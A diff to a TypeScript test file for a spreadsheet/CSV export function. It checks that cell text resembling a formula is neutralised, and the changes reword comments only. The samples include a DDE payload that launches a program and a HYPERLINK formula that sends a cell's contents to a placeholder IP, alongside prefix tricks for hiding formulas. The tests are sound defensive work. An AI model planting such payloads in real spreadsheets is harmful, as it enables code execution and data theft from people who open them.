@@ -10,7 +10,7 @@ import { writeXlsx } from "./write-xlsx.ts";
 const call = 'cmd|"/C calc"!A0';
 const link = 'HYPERLINK("http://192.0.2.1/?"&A1;"Πατήστε")';
 
-/** What a spreadsheet runs, or might, and how people hide it. */
+/** Text that a spreadsheet evaluates, or might, and the ways people hide it. */
 const live = [
   "=1+1",
   "+1+1",
@@ -49,7 +49,7 @@ const live = [
   "\ttext",
 ];
 
-/** What looks like it and is none: it stays as it was typed. */
+/** Text that looks like a formula and is not: it stays as typed. */
 const harmless = [
   "'=1+1",
   '"=1+1"',
@@ -83,7 +83,7 @@ test("no text of a cell or header is a formula in csv, whichever separator is be
     ...harmless,
   ]);
   expect(read.slice(1).map(([, ...numbers]) => numbers)).toEqual(texts.map(() => ["-5,50", "-90"]));
-  // Whoever splits at commas or tabs finds these whole, too.
+  // A reader that splits at commas or tabs finds these intact too.
   expect(csv.toString()).toContain('"a,=1+1"');
   expect(csv.toString()).toContain('"a\t=1+1"');
 });
